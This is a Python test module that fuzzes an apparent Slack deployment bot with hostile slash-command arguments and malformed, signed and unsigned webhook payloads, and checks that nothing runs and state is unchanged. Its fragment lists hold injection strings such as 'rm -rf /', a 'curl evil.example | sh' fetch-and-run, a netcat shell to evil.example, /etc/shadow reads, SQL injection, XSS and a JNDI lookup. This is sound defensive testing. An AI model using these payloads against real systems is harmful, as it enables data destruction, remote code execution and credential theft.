"""d. Hostile /deploy and /rollback arguments; e. fuzzed payloads, signed and not, to a real `opsbot serve`."""

from __future__ import annotations

import json
import random
import string
import time
import urllib.parse

import pytest

from bot.ops.ci_events import sign as sign_hook
from bot.services import SAFE_VALUE
from bot.slack import ids
from tests.fault.harness import ALICE, BOB, OPS_CHANNEL, Cluster, http_request, scaled, snapshot, wait_until
from tests.fault.report import COLLECTOR
from tests.slack.conftest import HOOK_SECRET, SIGNING_SECRET, TEAM, sign

pytestmark = pytest.mark.fault
SEED = 1400

# Pieces an attacker (or a slip of the keyboard) puts into an argument; none is a plain name or version.
FRAGMENTS = [
    "; rm -rf /",
    "&& curl -s http://evil.example/x | sh",
    "| nc evil.example 4444",
    "$(id)",
    "`id`",
    "${IFS}cat${IFS}/etc/passwd",
    "$HOME",
    "\n--force",
    "\r\n--approve-all",
    "\x00",
    "%00",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "{python}",
    "{0}",
    "{service}",
    "{request_id!r}",
    "{__class__}",
    "%s%s%n",
    "'",
    '"',
    "\\",
    "' OR '1'='1",
    '"; DROP TABLE deploy_requests; --',
    "*",
    "?",
    "~root",
    ">/tmp/owned",
    "<script>alert(1)</script>",
    "2>&1",
    "\t-e",
    "--help",
    "--force",
    "-rf",
    "--exec=/bin/sh",
    "@channel <!here>",
    "\u200b",  # zero-width space
    "\u202e",  # right-to-left override
    "\u00a0",  # no-break space
    "\u0301",  # a combining accent
    "\U0001f680",
]
LOOKALIKES = {  # names that read like real ones in Slack's font
    "service": ["qu\u0456ck", "q\u0443ick", "quick\u200b", "\uff51uick", "QUICK", "quick.", "-quick"],
    "env": ["stag\u0456ng", "st\u0430ging", "staging\u00a0", "\uff53taging", "Staging ", "prod\u200d"],
    "version": ["\uff11.\uff10.\uff10", "1.0.0\u200b", "1\u20240\u20240", "v1.0.0\u2010rc1", "1.0.0\u2028"],
}


def hostile_arguments(rng: random.Random) -> list[tuple[str, str]]:
    """(command, text) pairs: each fragment in each argument of /deploy and /rollback, look-alikes, long ones."""
    out: list[tuple[str, str]] = []
    for piece in FRAGMENTS:
        out += [
            ("/deploy", f"quick{piece} 1.0.0 staging"),
            ("/deploy", f"quick 1.0.0{piece} staging"),
            ("/deploy", f"quick 1.0.0 staging{piece}"),
            ("/deploy", f"quick 1.0.0 staging {piece}"),
            ("/rollback", f"quick staging{piece}"),
            ("/rollback", f"quick staging 1.0.0{piece}"),
            ("/rollback", f"{piece}quick staging"),
        ]
    for kind, names in LOOKALIKES.items():
        for name in names:
            args = {"service": "quick", "env": "staging", "version": "1.0.0"} | {kind: name}
            out.append(("/deploy", f"{args['service']} {args['version']} {args['env']}"))
            out.append(("/rollback", f"{args['service']} {args['env']} {args['version']}"))
    out += [
        ("/deploy", "quick " + "9" * 65 + " staging"),
        ("/deploy", "quick 1.0.0-" + "a" * 5000 + " staging"),
        ("/deploy", "q" * 60000 + " 1.0.0 staging"),
        ("/rollback", "quick staging " + "1." * 3000),
        ("/deploy", "quick 1.0.0 staging " + "--force " * 500),
    ]
    unique = list(dict.fromkeys(out))
    rng.shuffle(unique)
    return [(c, t) for c, t in unique if not plainly_valid(c, t)]


def plainly_valid(command: str, text: str) -> bool:
    """Whether a pair is an ordinary request after all (surrounding whitespace is no attack): no test of refusal."""
    words = text.split()
    return len(words) in (2, 3) and all(SAFE_VALUE.fullmatch(w) for w in words) and words[0] == "quick"


def test_hostile_deploy_and_rollback_arguments_run_nothing_and_are_explained(cluster: Cluster) -> None:
    rng = random.Random(SEED)
    cases = hostile_arguments(rng)
    assert len(cases) >= 200, len(cases)
    cases = cases[: scaled(50, len(cases))]
    serve = cluster.start()
    slack = serve.slack(cluster.proxy)
    with COLLECTOR.scenario("d. hostile arguments") as s:
        s.note(f"{len(cases)} hostile /deploy and /rollback argument strings (of {len(hostile_arguments(rng))})")
        sent: list[tuple[str, str, str, dict]] = []
        for command, text in cases:
            response, name = slack.command_named(command, text, user=ALICE)
            s.tried += 1
            s.check("every command is acknowledged", response.status == 200, f"{command} {text[:60]!r}: {response}")
            try:
                ack = json.loads(response.body or "{}")
            except ValueError:
                ack = {}
            sent.append((command, text, name, ack))
        wait_until(lambda: all(told(cluster, name, ack) for _, _, name, ack in sent), 60)
        for command, text, name, ack in sent:
            s.check("the user gets an ephemeral explanation", told(cluster, name, ack), f"{command} {text[:60]!r}")
        s.check("nothing runs", not cluster.runs(), f"runs: {list(cluster.runs())[:5]}")
        rows = cluster.requests()
        s.check("no request is recorded", not rows, f"{[(r['id'], r['service'], r['version'][:30]) for r in rows]}")
        s.check("no lock is taken", not cluster.locks(), f"{cluster.locks()}")
        audit = [a for a in cluster.audit() if not a["action"].endswith(".refused")]
        s.check("the audit holds refusals only", not audit, f"{audit[:3]}")
        s.check("no traceback in the process log", not cluster.tracebacks(), "\n".join(cluster.tracebacks())[:1500])
    assert s.ok, s.failure()


def told(cluster: Cluster, name: str, ack: dict) -> bool:
    """An ephemeral explanation reached the user: in the acknowledgement (usage) or on the response_url."""
    if ack.get("response_type") == "ephemeral" and "Requesting" not in str(ack.get("text", "")):
        return True
    return any(body.get("response_type") == "ephemeral" and body.get("text") for body in cluster.api.responses(name))


# -- e. fuzzed payloads ----------------------------------------------------------------------------

# Tables whose rows a fuzzed request must never change. Left out: Slack's event-id memory (events_seen) and a
# question's conversation bookkeeping (answers, conversations, suggestions), which valid-looking mentions
# and /ask or /experts questions write by design.
STATE_TABLES = (
    "deploy_requests",
    "deploy_decisions",
    "deploy_locks",
    "audit",
    "live_incidents",
    "incident_events",
    "feedback",
    "channel_settings",
    "experts",
    "services",
    "documents",
    "incidents",
    "meta",
)
ACTION_IDS = [
    ids.DEPLOY_APPROVE,
    ids.DEPLOY_REJECT,
    ids.FEEDBACK_UP,
    ids.FEEDBACK_DOWN,
    ids.SHARE_ANSWER,
    ids.OPEN_SOURCE,
    ids.INVITE_EXPERT,
    ids.INCIDENT_ROLLBACK,
    "no-such-action",
]
COMMANDS = ["/deploy", "/rollback", "/ask", "/experts", "/incident", "/nosuch", "", "deploy"]


class Fuzzer:
    """Builds hostile Slack and CI requests: valid shapes with fields removed, retyped, oversized or garbled."""

    def __init__(self, rng: random.Random, response_url: str) -> None:
        self.rng = rng
        self.response_url = response_url
        self.n = 0

    def junk(self) -> object:
        r = self.rng
        choice = r.randrange(12)
        if choice == 0:
            return None
        if choice == 1:
            return r.randint(-(2**63), 2**63)
        if choice == 2:
            return r.random() * 1e308
        if choice == 3:
            return [self.junk() for _ in range(r.randint(0, 3))]
        if choice == 4:
            return {self.text(5): self.junk() for _ in range(r.randint(0, 3))}
        if choice == 5:
            return "x" * r.choice([0, 1, 4000, 70000])
        if choice == 6:
            return r.choice([True, False])
        if choice == 7:
            return "".join(chr(r.randint(0, 0x2FFF)) for _ in range(r.randint(1, 40)))
        if choice == 8:
            return r.choice(["\x00", "\ud800", "<@U0>", "<!channel>", "${jndi:ldap://evil.example/a}", "%n%n"])
        if choice == 9:
            nested: object = "deep"
            for _ in range(r.randint(50, 400)):
                nested = [nested]
            return nested
        if choice == 10:
            return r.choice(["quick", "staging", "prod", "1.0.0", "dep-20260101-abcdef", ALICE])
        return self.text(r.randint(0, 60))

    def text(self, n: int) -> str:
        return "".join(self.rng.choice(string.printable) for _ in range(n))

    def mutate(self, data: dict, rounds: int | None = None) -> dict:
        """Remove, retype or add keys, at the top level or one level down."""
        data = json.loads(json.dumps(data))
        for _ in range(rounds or self.rng.randint(1, 4)):
            target = data
            nested = [k for k, v in data.items() if isinstance(v, dict)]
            if nested and self.rng.random() < 0.5:
                target = data[self.rng.choice(nested)]
            if not target:
                continue
            key = self.rng.choice(list(target))
            action = self.rng.randrange(3)
            if action == 0:
                del target[key]
            elif action == 1:
                target[key] = self.junk()
            else:
                target[self.text(8)] = self.junk()
        return data

    def event(self) -> dict:
        kind = self.rng.choice(["app_mention", "message", "reaction_added", "app_home_opened", "nosuch"])
        event = {"type": kind, "user": BOB, "text": "<@UBOT0001> disk full?", "channel": OPS_CHANNEL}
        event |= {"ts": f"{time.time():.6f}", "channel_type": self.rng.choice(["channel", "im"])}
        if kind == "reaction_added":
            event |= {"reaction": "pushpin", "item": {"type": "message", "channel": OPS_CHANNEL, "ts": "1.2"}}
        self.n += 1
        body = {
            "token": "legacy",
            "team_id": TEAM,
            "api_app_id": "A0000001",
            "type": self.rng.choice(["event_callback"] * 4 + ["url_verification", "app_rate_limited", "nosuch"]),
            "event_id": f"EvFuzz{self.n:06d}",
            "event_time": int(time.time()),
            "challenge": "fuzz",
            "event": event,
        }
        return self.mutate(body)

    def command(self) -> dict:
        self.n += 1
        # The text is never a valid request: a fuzzed command must not change anything.
        text = self.rng.choice(["", " ", self.text(40), "declar" + self.text(5), "status " + self.text(10)])
        body = {
            "token": "legacy",
            "team_id": TEAM,
            "channel_id": OPS_CHANNEL,
            "user_id": self.rng.choice([ALICE, BOB, "", "U" + self.text(8)]),
            "command": self.rng.choice(COMMANDS),
            "text": text,
            "response_url": self.rng.choice([self.response_url + f"fuzz{self.n}", "", "not a url"]),
            "trigger_id": f"trig.fuzz{self.n}",
        }
        return {k: v for k, v in body.items() if self.rng.random() > 0.15}

    def action(self) -> dict:
        self.n += 1
        payload = {
            "type": self.rng.choice(["block_actions"] * 4 + ["view_submission", "shortcut", "message_action", "x"]),
            "team": {"id": TEAM},
            "user": {"id": self.rng.choice([BOB, ALICE, "U" + self.text(6)])},
            "api_app_id": "A0000001",
            "container": {"type": "message", "message_ts": "1.2", "channel_id": OPS_CHANNEL},
            "channel": {"id": OPS_CHANNEL},
            "message": {"ts": "1.2", "text": "x", "blocks": self.junk()},
            "response_url": self.response_url + f"fuzz{self.n}",
            "trigger_id": f"trig.fuzz{self.n}",
            "actions": [
                {
                    "action_id": self.rng.choice(ACTION_IDS),
                    "block_id": "b",
                    "type": "button",
                    "value": self.rng.choice([self.text(20), "dep-20260101-abcdef", '{"service": 1}', "{}"]),
                }
            ],
        }
        return self.mutate(payload)

    def hook_event(self) -> dict:
        event = {
            "event_id": f"evt-fuzz-{self.n}",
            "service": "quick",
            "env": "staging",
            "version": "1.2.3",
            "status": "succeeded",
            "actor": "fuzzer",
        }
        self.n += 1
        # Always at least one field that makes the event invalid, so nothing may be recorded.
        broken = self.rng.choice(["service", "env", "version", "status", "event_id", "finished_at", "changes"])
        event[broken] = {
            "service": "no-such-service",
            "env": "staging; rm -rf /",
            "version": "$(id)",
            "status": "exploded",
            "event_id": "",
            "finished_at": "yesterday",
            "changes": "not a list",
        }[broken]
        return self.mutate(event, rounds=self.rng.randint(0, 3)) | {broken: event[broken]}


def slack_request(f: Fuzzer, rng: random.Random) -> tuple[str, bytes, str]:
    """One fuzzed Slack request: (what it is, body, content type)."""
    shape = rng.randrange(5)
    if shape == 0:
        return "event", json.dumps(f.event()).encode(), "application/json"
    if shape == 1:
        form = {k: v if isinstance(v, str) else json.dumps(v) for k, v in f.command().items()}
        return "command", urllib.parse.urlencode(form).encode(), "application/x-www-form-urlencoded"
    if shape == 2:
        payload = json.dumps(f.action()) if rng.random() < 0.9 else f.text(30)
        return "action", urllib.parse.urlencode({"payload": payload}).encode(), "application/x-www-form-urlencoded"
    if shape == 3:
        raw = bytes(rng.randrange(256) for _ in range(rng.randint(0, 300)))
        kind = rng.choice(["application/json", "application/x-www-form-urlencoded", "text/plain", ""])
        return "bytes", raw, kind
    text = json.dumps(f.event())
    return "truncated", text[: rng.randint(0, len(text))].encode(), "application/json"


def test_fuzzed_payloads_never_crash_change_state_or_drop_connections(cluster: Cluster) -> None:
    rng = random.Random(SEED + 1)
    total = scaled(150, 1000)
    serve = cluster.start()
    f = Fuzzer(rng, cluster.proxy.response_url(""))
    before = snapshot(cluster.db_path, STATE_TABLES)
    with COLLECTOR.scenario("e. fuzzed payloads") as s:
        kinds: dict[str, int] = {}
        for n in range(total):
            signed = rng.random() < 0.6
            if rng.random() < 0.15:
                what, path = "hook", "/hooks/deploy"
                body, content_type = json.dumps(f.hook_event()).encode(), "application/json"
                ts = str(int(time.time()))
                headers = {"Content-Type": content_type}
                if signed:
                    headers |= {"X-Opsbot-Timestamp": ts, "X-Opsbot-Signature": sign_hook(HOOK_SECRET, ts, body)}
            else:
                what, body, content_type = slack_request(f, rng)
                path, ts = "/slack/events", str(int(time.time()))
                headers = {"Content-Type": content_type, "X-Slack-Request-Timestamp": ts}
                text = body.decode("utf-8", errors="replace")
                if signed:
                    headers["X-Slack-Signature"] = sign(text, int(ts), SIGNING_SECRET)
                elif rng.random() < 0.5:
                    headers["X-Slack-Signature"] = sign(text, int(ts), "not-the-signing-secret")
            label = f"{what}{'' if signed else ' unsigned'}"
            kinds[label] = kinds.get(label, 0) + 1
            response = http_request(serve.url, "POST", path, body, headers)
            s.tried += 1
            s.check("no connection is dropped", response.status != 0, f"#{n} {label}: {response.body[:200]}")
            s.check("no answer >= 500", response.status < 500, f"#{n} {label}: {response.status} {response.body[:200]}")
            if not signed:
                s.check("unsigned requests are refused", response.status in (401, 403), f"#{n} {label}: {response}")
        s.note("sent: " + ", ".join(f"{k} {v}" for k, v in sorted(kinds.items())))
        settle(cluster)
        s.check("the process is still serving", serve.alive() and serve.healthz()[0] == 200, serve.log()[-500:])
        after = snapshot(cluster.db_path, STATE_TABLES)
        changed = [t for t in STATE_TABLES if before[t] != after[t]]
        s.check("no state changes", not changed, f"changed tables: {changed}")
        s.check("no run started", not cluster.runs(), f"{list(cluster.runs())[:3]}")
        tracebacks = cluster.tracebacks()
        count = serve.log().count("Traceback (most recent call last)")
        s.check(
            "no traceback in the process log",
            not tracebacks,
            f"{count} traceback(s); first: {''.join(tracebacks)[:1500]}",
        )
    assert s.ok, s.failure()


def settle(cluster: Cluster, quiet: float = 3.0, timeout: float = 120) -> None:
    """Wait until the lazy handlers are done: no Slack call and no new log line for ``quiet`` seconds."""
    sizes: list[int] = []

    def calm() -> bool:
        sizes.append(len(cluster.logs()))
        steady = len(sizes) > int(quiet / 0.5) and len(set(sizes[-int(quiet / 0.5) :])) == 1
        return steady and cluster.proxy.quiet_for(quiet)

    wait_until(calm, timeout, interval=0.5)
